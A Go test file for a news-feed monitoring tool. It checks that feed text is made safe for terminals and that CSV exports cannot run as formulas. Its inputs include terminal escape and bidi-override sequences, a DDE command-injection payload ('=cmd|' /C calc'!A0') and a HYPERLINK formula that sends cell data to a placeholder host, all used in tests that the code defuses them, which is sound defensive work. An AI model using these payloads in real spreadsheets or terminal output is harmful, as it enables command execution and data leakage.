package main

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"

	"vedette/config"
	"vedette/matcher"
	"vedette/store"
	"vedette/watcher"
)

func TestOneLine(t *testing.T) {
	for in, want := range map[string]string{
		"Путин receives الأسد":                    "Путин receives الأسد",
		" two\r\n lines\tand\va tab ":             "two lines and a tab",
		"\x1b[31mred\x1b]0;title\x07":             "[31mred ]0;title",
		"C1: \u009b31m \u0085next":                "C1: 31m next",
		"raw C1: \x9b31m":                         "raw C1: \uFFFD31m",
		"lines\u2028and\u2029paragraphs":          "lines and paragraphs",
		"\u202aa\u202bb\u202cc\u202dd\u202ee":     "abcde",
		"\u2066a\u2067b\u2068c\u2069d":            "abcd",
		"\u200ea\u200fb\u061cc":                   "abc",
		"\ufeffa\u2060b\u00adc\ufff9d\U000e0041e": "abcde",
		"می\u200cروم":                             "می\u200cروم",
		"क्\u200dष":                               "क्\u200dष",
		"\u0601١٢":                                "\u0601١٢", // a number sign, which is seen
	} {
		if got := oneLine(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

// hostile is what a feed may hold; nothing of it but the word may come out.
const hostile = "x\x1b[2J\u009b\u202e\u2067\nword"

// unsafe are the characters of hostile that act on a terminal.
const unsafe = "\x1b\u009b\u202e\u2067"

func TestTextIsSafeForTerminals(t *testing.T) {
	evidence := []matcher.Evidence{{Kind: "rule", Text: hostile, Field: "title", Weight: 1}}
	match := matcher.Match{ID: hostile, Profile: "p", Hit: true, Evidence: evidence}
	found := []store.Found{{
		Item: store.Item{ID: "i", Title: hostile, Outlet: hostile, Class: hostile, Language: hostile, Link: hostile},
		Hit:  store.Hit{Profile: "p", Evidence: []store.Evidence{store.Evidence(evidence[0])}},
	}}
	checked := []checkup{{feed: config.Feed{URL: hostile, Name: hostile}, state: store.FeedState{Title: hostile}, Condition: watcher.Condition{Why: hostile}}}
	for name, test := range map[string]struct {
		print func(*bytes.Buffer) error
		lines int
	}{
		"match": {func(b *bytes.Buffer) error {
			return (&matchPrinter{w: b, explainer: &explainer{w: b}}).print(matcher.Document{Title: hostile}, match)
		}, 9},
		"hits":     {func(b *bytes.Buffer) error { return explained(b, found) }, 12},
		"hits csv": {func(b *bytes.Buffer) error { return hitsCSV(b, headlines(found)) }, 2},
		"feeds":    {func(b *bytes.Buffer) error { return feedsText(b, checked, time.UTC) }, 2},
		"feed":     {func(b *bytes.Buffer) error { return checked[0].print(b, time.UTC, time.Now()) }, 11},
		"table":    {func(b *bytes.Buffer) error { return printTable(b, []string{"a"}, [][]string{{hostile}}) }, 2},
	} {
		var b bytes.Buffer
		if err := test.print(&b); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		if out := b.String(); strings.ContainsAny(out, unsafe) || !strings.Contains(out, "word") {
			t.Errorf("%s prints %q", name, out)
		}
		if got := strings.Count(b.String(), "\n"); got != test.lines {
			t.Errorf("%s: %d lines, want %d:\n%s", name, got, test.lines, b.String())
		}
	}
}

// fullWriter takes no more than so many bytes.
type fullWriter int

var errFull = errors.New("full")

func (w *fullWriter) Write(p []byte) (int, error) {
	n := min(len(p), int(*w))
	*w -= fullWriter(n)
	if n < len(p) {
		return n, errFull
	}
	return n, nil
}

func TestWriteErrorsAreReturned(t *testing.T) {
	cfg, err := config.Load("")
	if err != nil {
		t.Fatal(err)
	}
	rows := [][]string{{"1", "2"}, {"3", "4"}}
	for room := fullWriter(0); room < 12; room++ {
		full := room
		if err := printTable(&full, []string{"a", "b"}, rows); !errors.Is(err, errFull) {
			t.Errorf("a table with room for %d bytes: error %v", room, err)
		}
		full = room
		if err := printPlan(&full, cfg, time.Now()); !errors.Is(err, errFull) {
			t.Errorf("a plan with room for %d bytes: error %v", room, err)
		}
	}
	enough := fullWriter(len("a\tb\n1\t2\n3\t4\n"))
	if err := printTable(&enough, []string{"a", "b"}, rows); err != nil {
		t.Errorf("a table with room enough: %v", err)
	}
}

func TestOneLineInHaste(t *testing.T) {
	for s, want := range map[string]string{
		"": "", "a": "a", "a b~": "a b~", " ": "", " a": "a", "a ": "a", "a  b": "a b", "a\tb": "a b", "a\x7fb": "a b", "\x00": "",
		"é  b": "é b", "a\xffb": "a\uFFFDb", "a\u202eb": "ab", "https://x.example/a?b=c&d=1": "https://x.example/a?b=c&d=1",
	} {
		if got := oneLine(s); got != want {
			t.Errorf("oneLine(%q) = %q, want %q", s, got, want)
		}
	}
}

func TestInert(t *testing.T) {
	for cell, want := range map[string]string{
		`=HYPERLINK("https://x.example/?"&A1)`: `'=HYPERLINK("https://x.example/?"&A1)`,
		"+1 or more":                           "'+1 or more", "-2+3": "'-2+3", "- said": "'- said", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1",
		"-1": "-1", "+1.5e3": "+1.5e3", "": "", "a=b": "a=b", "–": "–", "0": "0", "'": "'",
	} {
		if got := inert(cell); got != want {
			t.Errorf("inert(%q) = %q, want %q", cell, got, want)
		}
	}
}

// What feeds say is no formula in any column, whatever stood before it.
func TestListsInCSVHoldNoFormulas(t *testing.T) {
	formula := " \n=cmd|' /C calc'!A0"
	h := &store.Headline{Item: "i", Profile: "p", Title: formula, Link: formula, Outlet: formula, Class: formula, Language: formula, When: time.Unix(0, 0)}
	for name, print := range map[string]func(*bytes.Buffer) error{
		"hits":     func(b *bytes.Buffer) error { return hitsCSV(b, []*store.Headline{h}) },
		"timeline": func(b *bytes.Buffer) error { return timelineCSV(b, chronicle(byStory([]*store.Headline{h}), time.UTC)) },
	} {
		var b bytes.Buffer
		if err := print(&b); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%s: %d rows, %v", name, len(rows), err)
		}
		marked := 0
		for _, cell := range rows[1] {
			if strings.HasPrefix(cell, "=") {
				t.Errorf("%s: %q", name, cell)
			}
			if strings.HasPrefix(cell, "'=") {
				marked++
			}
		}
		if marked < 3 {
			t.Errorf("%s: %d cells marked in %q", name, marked, rows[1])
		}
	}
}
